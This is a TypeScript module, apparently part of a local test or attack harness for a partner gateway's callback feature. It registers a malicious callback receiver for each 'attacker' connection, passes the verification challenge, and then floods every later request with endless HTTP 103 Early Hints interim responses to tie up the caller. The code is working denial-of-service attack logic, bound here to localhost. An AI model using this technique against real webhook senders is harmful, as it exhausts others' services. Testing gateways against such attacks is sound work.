import { createServer, type Socket } from 'node:net'
import { once } from 'node:events'
import type { AddressInfo } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { send } from '@connectivity/toolkit/partner'
import type { Partner, Target } from '../target.ts'

const INTERIM = Buffer.from('HTTP/1.1 103 Early Hints\r\nlink: </a>; rel=preload\r\n\r\n'.repeat(1_000))

/** Sends interim answers for as long as the client reads them. */
function flood(socket: Socket): void {
  const more = () => {
    while (!socket.destroyed && socket.write(INTERIM));
  }
  socket.on('drain', more)
  more()
}

/** Passes the challenge of a callback receiver; answers every later request with endless interim answers. */
function receive(socket: Socket): void {
  let text = ''
  socket.on('error', () => undefined)
  socket.on('data', (chunk: Buffer) => {
    text += chunk.toString('latin1')
    const challenge = /"challenge":"([^"]+)"/.exec(text)?.[1]
    if (challenge) {
      const answer = JSON.stringify({ challenge })
      socket.end(`HTTP/1.1 200 OK\r\ncontent-length: ${answer.length}\r\nconnection: close\r\n\r\n${answer}`)
    } else if (text.includes('\r\n\r\n')) flood(socket)
  })
}

const REGISTERED_WITHIN = 20_000
const TRY_AGAIN_AFTER = 1_000

/** Registers a receiver; beside other attackers it may take several attempts. */
async function register(port: number, url: string, { connection, signing }: Partner): Promise<void> {
  const path = `/properties/${connection}/callback`
  for (let isRegistered = false; !isRegistered;) {
    const given = { body: { url }, key: `flood-${connection}-${Date.now()}`, within: REGISTERED_WITHIN }
    const { status } = await send(`http://127.0.0.1:${port}`, 'PUT', path, signing, given).catch(() => ({ status: 0 }))
    isRegistered = status === 200 || status === 201
    if (!isRegistered) await sleep(TRY_AGAIN_AFTER)
  }
}

/** Registers receivers for all of the attackers' connections. */
export async function interimAnswers({ gateways, partners }: Target): Promise<void> {
  const server = createServer(receive).listen(0, '127.0.0.1')
  await once(server, 'listening')
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`
  for (const partner of partners) await register(gateways[0]!, url, partner)
}
